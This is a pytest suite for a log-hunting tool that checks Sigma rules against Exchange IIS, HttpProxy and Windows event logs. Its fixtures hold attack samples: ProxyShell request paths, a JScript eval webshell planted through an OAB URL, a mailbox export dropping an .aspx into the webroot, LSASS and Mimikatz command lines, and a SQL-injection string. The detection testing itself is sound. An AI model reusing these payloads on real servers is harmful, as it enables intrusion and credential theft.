"""Sigma rules: the shared community set loads, regression EVTX match, and conversions are right on tiny inputs."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from exhunt.errors import RuleError
from exhunt.rules.sigma_load import SigmaLoad, load_sigma
from exhunt.scan import ScanOptions, scan
from tests.conftest import SHARED, iis_log, shared_path, write

RULE_DIRS = ("rules", "rules-emerging-threats", "rules-threat-hunting", "deprecated")
W3 = "EXCH01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
EVENTS = "EXCH01/EventLogs/winlogbeat.ndjson"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
REGRESSION = sorted(
    str(p.parent.relative_to(SHARED / "data/sigma/regression_data"))
    for p in (SHARED / "data/sigma/regression_data").rglob("info.yml")
) or ["(shared data absent)"]


@pytest.fixture(scope="module")
def shared() -> tuple[Path, SigmaLoad]:
    root = shared_path("data", "sigma")
    return root, load_sigma([root / d for d in RULE_DIRS])


def sigma_rule(root: Path, rel: str):
    """The rule of one Sigma file (a web rule is one `web` rule over IIS and HttpProxy)."""
    load = load_sigma([root / rel])
    assert load.skipped == [] and len(load.rules) == 1
    return load.rules[0]


def hits(collection: Path, rules: list) -> list[tuple[str, str, int | None]]:
    result = scan(collection, ScanOptions(rules=rules, all_evidence=True))
    assert result.errors == []
    return sorted((f.rule.id, e.path, e.line) for f in result.findings for e in f.evidence)


def events_file(collection: Path, events: list[dict]) -> None:
    """Winlogbeat-shaped JSON lines, one event per line (line n = event n)."""
    lines = []
    for i, e in enumerate(events, 1):
        winlog = {"record_id": i, "computer_name": "EXCH01", **{k: v for k, v in e.items() if k != "message"}}
        lines.append(json.dumps({"@timestamp": "2021-03-03T01:00:00.000Z", "message": e.get("message", ""),
                                 "winlog": winlog}))  # fmt: skip
    write(collection, EVENTS, "\n".join(lines) + "\n", crlf=False)


def rule_file(tmp_path: Path, text: str, name: str = "rule.yml") -> Path:
    path = tmp_path / "sigma" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# -- the shared community set ----------------------------------------------------------------------


def test_every_shared_rule_loads_or_is_listed_with_a_reason(shared, capfd):
    root, load = shared
    files = sorted(p for d in RULE_DIRS for p in (root / d).rglob("*.yml"))
    manifest = [ln.split()[1] for ln in (root / "MANIFEST.txt").read_text().splitlines() if ln.strip()]
    assert len(files) == 137 == len([m for m in manifest if m.endswith(".yml") and "regression_data/" not in m])
    assert len({r.origin for r in load.rules}) + len(load.skipped) == 137
    assert {r.origin for r in load.rules} | {s[0] for s in load.skipped} == {str(f) for f in files}
    web = [r for r in load.rules if r.source == "web"]
    on = [{name for name, _, _ in r.by_family} for r in web]
    assert len(web) == 24 and all("iis" in fams for fams in on) and sum("httpproxy" in fams for fams in on) >= 15
    assert all(reason for _, _, reason in load.skipped)
    # only what exhunt cannot read is skipped: Linux sources and SigmaHQ's deprecated rules
    skipped = {Path(p).relative_to(root).as_posix(): why for p, _, why in load.skipped}
    assert {p for p in skipped if p.startswith("deprecated/")} == {
        f.relative_to(root).as_posix() for f in (root / "deprecated").rglob("*.yml")
    }
    assert {p for p, why in skipped.items() if "product=linux" in why} == {
        "rules/linux/process_creation/proc_creation_lnx_webshell_detection.yml",
        "rules-emerging-threats/2025/Exploits/CVE-2025-31324/file_event_lnx_sap_netweaver_webshell_creation.yml",
    }
    assert len(skipped) == 9
    assert len({r.id for r in load.rules}) == len(load.rules)
    assert all(r.id.startswith("sigma:") and (r.sql or r.by_family) for r in load.rules)
    assert {r.source for r in load.rules} == {"events", "web"}
    assert sum(r.source == "web" for r in load.rules) == 24  # 22 webserver + 2 proxy rules
    capfd.readouterr()
    again = load_sigma([root / d for d in RULE_DIRS])  # the fixture loaded before output was captured
    assert capfd.readouterr() == ("", "") and [r.id for r in again.rules] == [r.id for r in load.rules]


def test_rule_metadata_is_mapped(shared):
    _, load = shared
    by_id = {r.id: r for r in load.rules}
    shell = by_id["sigma:23eee45e-933b-49f9-ae1b-df706d2d52ef"]  # Exchange ProxyShell Pattern
    assert (shell.title, shell.severity, shell.kind, shell.source) == (
        "Exchange ProxyShell Pattern",
        "high",
        "exploitation",
        "web",
    )
    assert shell.attack == ("T1190",) and shell.confidence == "medium"
    assert shell.origin.endswith("web_exchange_proxyshell.yml") and shell.references
    cve = by_id["sigma:f8a66a02-4a16-46e5-b7fd-a42c8a93d137"]
    assert cve.cves == ("CVE-2026-41089",) and cve.kind == "exploitation" and cve.source == "events"
    assert by_id["sigma:7ff9db12-1b94-4a79-ba68-a2402c5d6729"].kind == "webshell"  # Windows Webshell Strings
    lsass = next(r for r in load.rules if r.origin.endswith("proc_creation_win_findstr_lsass.yml"))
    assert lsass.kind == "post-exploitation" and lsass.severity == "high"


@pytest.mark.parametrize("case", REGRESSION)
def test_regression_evtx_match_their_rules(shared, case):
    root, load = shared
    info = yaml.safe_load(shared_path("data", "sigma", "regression_data", case, "info.yml").read_text())
    rule_id = "sigma:" + info["rule_metadata"][0]["id"]
    rule = next((r for r in load.rules if r.id == rule_id), None)
    if rule is None:
        pytest.skip(f"{info['rule_metadata'][0]['title']} ({rule_id}) is not part of the shared Sigma set")
    for test in info["regression_tests_info"]:
        assert test["type"] == "evtx"
        result = scan(root / test["path"], ScanOptions(rules=[rule], all_evidence=True))
        assert result.errors == []
        assert sum(f.count for f in result.findings) == test["match_count"]


# -- web logs ------------------------------------------------------------------------------------


def test_proxyshell_rules_on_an_iis_log(shared, collection):
    root, _ = shared
    pattern = sigma_rule(root, "rules-emerging-threats/2021/Exploits/ProxyShell-Exploit/web_exchange_proxyshell.yml")
    success = sigma_rule(
        root, "rules-emerging-threats/2021/Exploits/ProxyShell-Exploit/web_exchange_proxyshell_successful.yml"
    )
    write(collection, W3, iis_log([
        "2021-08-10 01:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.7 python-requests/2.26.0 - 401 0 0 31",
        "2021-08-10 01:00:01 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.7 python-requests/2.26.0 - 200 0 0 31",
        "2021-08-10 01:00:02 10.0.0.5 POST /autodiscover/autodiscover.xml - 443 CORP\\user1 10.1.1.1 Microsoft+Office/16.0 - 200 0 0 9",
        "2021-08-10 01:00:03 10.0.0.5 GET /EWS/Exchange.asmx - 443 CORP\\user1 10.1.1.1 Microsoft+Office/16.0 - 401 0 0 9",
    ]))  # fmt: skip
    assert hits(collection, [pattern, success]) == [(pattern.id, W3, 5), (success.id, W3, 6)]


def test_exchange_paths_under_cs_uri_query_match_the_stem(shared, collection):
    root, _ = shared
    hafnium = sigma_rule(root, "rules-emerging-threats/2021/TA/HAFNIUM/web_exchange_exploitation_hafnium.yml")
    wp2shell = sigma_rule(
        root,
        "rules-emerging-threats/2026/Exploits/CVE-2026-63030/web_exploit_cve_2026_63030_webshell_plugin_access.yml",
    )
    write(collection, W3, iis_log([
        "2021-03-03 01:00:00 10.0.0.5 POST /ecp/y.js - 443 - 130.255.189.21 python-requests/2.25.1 - 200 0 0 31",
        "2021-03-03 01:00:01 10.0.0.5 GET /ecp/y.js - 443 - 130.255.189.21 python-requests/2.25.1 - 200 0 0 31",
        "2021-03-03 01:00:02 10.0.0.5 POST /owa/auth/Current/themes/resources/x.aspx - 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 9",
        "2021-03-03 01:00:03 10.0.0.5 POST /owa/service.svc action=GetTime 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 9",
        "2021-03-03 01:00:04 10.0.0.5 GET /wp-content/plugins/wp2shell_a1/s.php cmd=id 443 - 10.1.1.1 curl/8.0 - 200 0 0 9",
        "2021-03-03 01:00:05 10.0.0.5 GET /wp-content/plugins/wp2shell_a1/ - 443 - 10.1.1.1 curl/8.0 - 200 0 0 9",
    ]))  # fmt: skip
    assert hits(collection, [hafnium, wp2shell]) == [(hafnium.id, W3, 5), (hafnium.id, W3, 7), (wp2shell.id, W3, 9)]


def test_user_agents_with_plus_or_spaces_and_missing_columns(tmp_path, collection):
    rule = rule_file(tmp_path, """
title: UA and null referer
id: 11111111-2222-3333-4444-555555555555
status: test
logsource: {category: webserver}
detection:
    tool:
        cs-user-agent|contains: 'Nmap Scripting Engine'
    bot:
        cs-user-agent: 'Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)'
    regeorg:
        cs-uri-query|contains: 'cmd=read'
        cs-referer: null
        cs-method: POST
    condition: tool or bot or regeorg
level: high
""")  # fmt: skip
    (sigma,) = load_sigma([rule]).rules
    write(collection, W3, iis_log([
        "2021-03-03 01:00:00 10.0.0.5 GET / - 443 - 198.51.100.9 Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html) - 404 0 0 3",
        "2021-03-03 01:00:01 10.0.0.5 GET / - 443 - 198.51.100.9 Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html) - 200 0 0 3",
        "2021-03-03 01:00:02 10.0.0.5 GET / - 443 - 198.51.100.9 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 3",
        "2021-03-03 01:00:03 10.0.0.5 POST /x.aspx cmd=read 443 - 198.51.100.9 x https://a/ 200 0 0 3",
        "2021-03-03 01:00:04 10.0.0.5 POST /x.aspx cmd=read 443 - 198.51.100.9 x - 200 0 0 3",
    ]))  # fmt: skip
    assert [line for _, _, line in hits(collection, [sigma])] == [5, 6, 9]
    # a log without the user-agent and referer columns: they read as NULL, the query still runs
    (collection / W3).unlink()
    fields = "date time cs-method cs-uri-stem cs-uri-query c-ip sc-status"
    write(
        collection,
        W3,
        f"#Version: 1.0\n#Fields: {fields}\n2021-03-03 01:00:00 POST /x.aspx cmd=read 198.51.100.9 200\n",
    )
    assert hits(collection, [sigma]) == [(sigma.id, W3, 3)]


def test_keywords_numbers_and_exists_on_iis(shared, tmp_path, collection):
    root, _ = shared
    strings = sigma_rule(root, "rules/web/webserver_generic/web_win_webshells_in_access_logs.yml")
    slow = rule_file(tmp_path, """
title: Slow server errors for anonymous users
logsource: {category: webserver}
detection:
    selection:
        sc-status: 500
        time-taken|gte: 1000
    filter:
        cs-username|exists: true
    condition: selection and not filter
level: low
""")  # fmt: skip
    (slow_rule,) = load_sigma([slow]).rules
    assert slow_rule.id == "sigma:rule" and slow_rule.severity == "low"  # no Sigma id: the file stem
    write(collection, W3, iis_log([
        "2021-03-03 01:00:00 10.0.0.5 GET /aspnet_client/x.aspx c=cmd%20/c%20whoami 443 - 198.51.100.9 curl/8 - 200 0 0 3",
        "2021-03-03 01:00:01 10.0.0.5 POST /aspnet_client/x.aspx c=cmd%20/c%20whoami 443 - 198.51.100.9 curl/8 - 200 0 0 3",
        "2021-03-03 01:00:02 10.0.0.5 GET /owa/ q=who%20am%20i 443 - 198.51.100.9 curl/8 - 200 0 0 3",
        "2021-03-03 01:00:03 10.0.0.5 GET /owa/ - 443 - 198.51.100.9 curl/8 - 500 0 0 2000",
        "2021-03-03 01:00:04 10.0.0.5 GET /owa/ - 443 CORP\\u1 198.51.100.9 curl/8 - 500 0 0 2000",
        "2021-03-03 01:00:05 10.0.0.5 GET /owa/ - 443 - 198.51.100.9 curl/8 - 500 0 0 10",
    ]))  # fmt: skip
    assert hits(collection, [strings, slow_rule]) == sorted([(strings.id, W3, 5), (slow_rule.id, W3, 8)])


# -- Windows events --------------------------------------------------------------------------------


def test_process_creation_on_sysmon_and_security_4688(shared, collection):
    root, _ = shared
    rule = sigma_rule(root, "rules/windows/process_creation/proc_creation_win_findstr_lsass.yml")
    events_file(collection, [
        {"channel": SYSMON, "provider_name": "Microsoft-Windows-Sysmon", "event_id": 1,
         "event_data": {"Image": "C:\\Windows\\System32\\findstr.exe", "CommandLine": "findstr  lsass"}},
        {"channel": SYSMON, "provider_name": "Microsoft-Windows-Sysmon", "event_id": 1,
         "event_data": {"Image": "C:\\Windows\\System32\\findstr.exe", "CommandLine": "findstr  svchost"}},
        {"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "event_id": 4688,
         "event_data": {"NewProcessName": "C:\\Windows\\System32\\FINDSTR.EXE", "CommandLine": "tasklist | findstr /i lsass"}},
        {"channel": SYSMON, "provider_name": "Microsoft-Windows-Sysmon", "event_id": 11,  # not a process creation
         "event_data": {"Image": "C:\\Windows\\System32\\findstr.exe", "CommandLine": "findstr lsass"}},
    ])  # fmt: skip
    assert hits(collection, [rule]) == [(rule.id, EVENTS, 1), (rule.id, EVENTS, 3)]


def test_msexchange_management_keyword_rules(shared, collection):
    root, _ = shared
    oab = sigma_rule(root, "rules/windows/builtin/msexchange/win_exchange_proxylogon_oabvirtualdir.yml")
    export = sigma_rule(root, "rules/windows/builtin/msexchange/win_exchange_proxyshell_mailbox_export.yml")
    mgmt = {"channel": "MSExchange Management", "provider_name": "MSExchange CmdletLogs", "event_id": 1}
    script = '<script language="JScript" runat="server">function Page_Load(){eval(Request["c"],"unsafe");}</script>'
    events_file(collection, [
        {**mgmt, "event_data": {"param1": "Set-OabVirtualDirectory", "param2": f"-ExternalUrl 'http://f/{script}' -Identity 'OAB'"}},
        {**mgmt, "event_data": {"param1": "Set-OabVirtualDirectory", "param2": "-ExternalUrl 'https://mail.example.org/OAB' -Identity 'OAB'"}},
        {**mgmt, "event_data": {"param1": "New-MailboxExportRequest",
                                "param2": '-Mailbox "admin@corp.example" -FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"'}},
        {**mgmt, "event_data": {"param1": "New-MailboxExportRequest", "param2": '-Mailbox "admin@corp.example" -FilePath "D:\\pst\\a.pst"'}},
        {"channel": "Application", "provider_name": "x", "event_id": 1,
         "message": f"Set-OabVirtualDirectory -ExternalUrl 'http://f/{script}'"},  # right words, wrong channel
    ])  # fmt: skip
    assert hits(collection, [oab, export]) == sorted([(oab.id, EVENTS, 1), (export.id, EVENTS, 3)])


def test_modifiers_on_events(tmp_path, collection):
    rule = rule_file(tmp_path, r"""
title: Modifier mix
id: 22222222-3333-4444-5555-666666666666
status: experimental
tags: [attack.t1059.001, attack.execution]
logsource: {product: windows, category: process_creation}
detection:
    windash:
        CommandLine|windash|contains: ' -enc '
    wild:
        Image: 'C:\Tools\\*\nc?.exe'  # Sigma: '\\*' is a backslash, then a wildcard
    all:
        CommandLine|contains|all: ['whoami', '/priv']
    regex:
        CommandLine|re: 'curl\s+-o\s+\S+\.aspx'
    cidr:
        DestinationIp|cidr: '10.20.0.0/16'
    b64:
        CommandLine|base64offset|contains: 'Invoke-Mimikatz'
    cased:
        CommandLine|cased: 'NET USER'
    filter_null:
        ParentImage: null
    filter_user:
        User: 'NT AUTHORITY\SYSTEM'
    condition: (windash or wild or all or regex or cidr or b64 or cased) and not 1 of filter_*
level: low
""")  # fmt: skip
    load = load_sigma([rule])
    assert load.skipped == []
    (sigma,) = load.rules
    assert (sigma.severity, sigma.confidence, sigma.attack, sigma.kind) == (
        "low",
        "low",
        ("T1059.001",),
        "post-exploitation",
    )
    import base64

    encoded = base64.b64encode(b"IEX; Invoke-Mimikatz -DumpCreds").decode()
    cmds = [
        ("powershell /enc SQBFAFgA", True),  # windash: '/' for '-'
        ("powershell -Enc SQBFAFgA", True),  # case-insensitive
        ("cmd /c whoami /priv", True),
        ("cmd /c whoami", False),
        ("curl  -o c:\\inetpub\\x.aspx http://a", True),
        (f"powershell -e {encoded}", True),
        ("NET USER", True),
        ("net user", False),  # |cased
        ("notepad.exe", False),
    ]
    base = {"channel": SYSMON, "event_id": 1}
    events = [
        {**base, "event_data": {"CommandLine": c, "ParentImage": "C:\\x.exe", "Image": "C:\\a.exe"}} for c, _ in cmds
    ]
    events += [
        {**base, "event_data": {"Image": "C:\\Tools\\bin\\nc1.exe", "ParentImage": "C:\\x.exe"}},  # wildcard hit
        {**base, "event_data": {"Image": "C:\\Tools\\bin\\nc12.exe", "ParentImage": "C:\\x.exe"}},  # ? is one char
        {**base, "event_data": {"DestinationIp": "10.20.3.4", "ParentImage": "C:\\x.exe"}},  # cidr
        {**base, "event_data": {"DestinationIp": "10.21.3.4", "ParentImage": "C:\\x.exe"}},
        {**base, "event_data": {"CommandLine": "cmd /c whoami /priv"}},  # filter: no ParentImage
        {**base, "event_data": {"CommandLine": "cmd /c whoami /priv", "ParentImage": ""}},  # filter: empty
        {
            **base,
            "event_data": {
                "CommandLine": "cmd /c whoami /priv",
                "ParentImage": "C:\\x.exe",
                "User": "nt authority\\system",
            },
        },
    ]
    events_file(collection, events)
    expected = [i for i, (_, hit) in enumerate(cmds, 1) if hit] + [len(cmds) + 1, len(cmds) + 3]
    assert [line for _, _, line in hits(collection, [sigma])] == expected


# -- errors, safety --------------------------------------------------------------------------------

GOOD = """
title: Transport agent
id: 33333333-4444-5555-6666-777777777777
logsource: {product: windows, service: msexchange-management}
detection:
    selection:
        - "Install-TransportAgent"
    condition: selection
level: medium
"""


def test_malformed_file_named_directly_is_an_error_but_listed_inside_a_folder(tmp_path):
    bad = rule_file(tmp_path, "title: broken\ndetection: [unclosed\n", "bad.yml")
    rule_file(tmp_path, GOOD, "good.yml")
    with pytest.raises(RuleError) as err:
        load_sigma([bad])
    assert err.value.path == str(bad) and "invalid YAML" in err.value.problem and "\n" not in err.value.problem
    notsigma = rule_file(tmp_path, "title: x\nlogsource: {product: windows}\n", "notsigma.yml")
    with pytest.raises(RuleError, match=r"notsigma\.yml: not a valid Sigma rule"):
        load_sigma([notsigma])
    load = load_sigma([tmp_path / "sigma"])
    assert [r.title for r in load.rules] == ["Transport agent"]
    assert sorted((Path(p).name, why.split(":")[0]) for p, _, why in load.skipped) == [
        ("bad.yml", "invalid YAML"), ("notsigma.yml", "not a valid Sigma rule"),
    ]  # fmt: skip
    with pytest.raises(RuleError, match="no such file"):
        load_sigma([tmp_path / "nope"])


def test_values_are_bound_and_odd_rules_are_listed_not_fatal(tmp_path, collection, capfd):
    evil = "x'); DROP TABLE events; --"
    inject = rule_file(tmp_path, GOOD.replace("Install-TransportAgent", evil), "inject.yml")
    (rule,) = load_sigma([inject]).rules
    assert "drop table" not in rule.sql.lower() and evil.lower() in rule.sql_params
    lookbehind = rule_file(tmp_path, GOOD.replace('- "Install-TransportAgent"', "Data|re: '(?<=a)b'"), "re.yml")
    badfield = rule_file(tmp_path, GOOD.replace('- "Install-TransportAgent"', "'a\"b': x"), "field.yml")
    linux = rule_file(tmp_path, GOOD.replace("{product: windows, service: msexchange-management}", "{product: linux, service: auth}"), "linux.yml")  # fmt: skip
    reasons = {Path(p).name: why for p, _, why in load_sigma([lookbehind, badfield, linux]).skipped}
    assert "RE2" in reasons["re.yml"]
    assert "cannot be used" in reasons["field.yml"]
    assert "product=linux" in reasons["linux.yml"]
    assert capfd.readouterr() == ("", "")  # RE2 does not log the rejected pattern to stderr
    events_file(collection, [{"channel": "MSExchange Management", "event_id": 1, "event_data": {"param1": evil}}])
    assert hits(collection, [rule]) == [(rule.id, EVENTS, 1)]


@pytest.mark.parametrize("logs", ["both", "httpproxy only"])
def test_webserver_rule_is_one_rule_on_iis_and_httpproxy(shared, collection: Path, logs: str):
    """A Sigma web rule runs once on every web log: the request both logs saw (tied by the front
    end's request id) is one finding with evidence from each; with IIS deleted, HttpProxy still gives it."""
    from tests.conftest import INSTALL, httpproxy_log

    root, _ = shared
    rel = "rules-emerging-threats/2021/Exploits/ProxyShell-Exploit/web_exchange_proxyshell_successful.yml"
    rule = sigma_rule(root, rel)
    assert rule.source == "web" and [name for name, _, _ in rule.by_family] == ["iis", "httpproxy"]
    req = "2f7d0d61-2d7b-4f44-9f5b-0c3c1b9a7e11"
    query = "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
    w3 = "EXCH01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log"
    if logs == "both":
        write(collection, w3, iis_log([
            f"2021-08-10 01:00:00 10.0.0.5 GET /autodiscover/autodiscover.json {query}&cafeReqId={req}; 443 - "
            "203.0.113.9 python-requests/2.25 - 200 0 0 9",
        ]))  # fmt: skip
    path = f"{INSTALL}/Logging/HttpProxy/Autodiscover/HttpProxy_2021081001-1.LOG"
    rows = [
        {"DateTime": "2021-08-10T01:00:00.000Z", "UrlStem": "/autodiscover/autodiscover.json", "RequestId": req,
         "UrlQuery": f"?{query}", "HttpStatus": "200", "Method": "GET", "ClientIpAddress": "203.0.113.9"},
        {"DateTime": "2021-08-10T01:00:01.000Z", "UrlStem": "/autodiscover/autodiscover.xml", "HttpStatus": "200"},
    ]  # fmt: skip
    write(collection, path, httpproxy_log(rows))
    result = scan(collection, ScanOptions(rules=[rule], all_evidence=True))
    (finding,) = result.findings
    expected = sorted([(w3, 5), (path, 7)]) if logs == "both" else [(path, 7)]
    assert finding.count == 1 and sorted((e.path, e.line) for e in finding.evidence) == expected
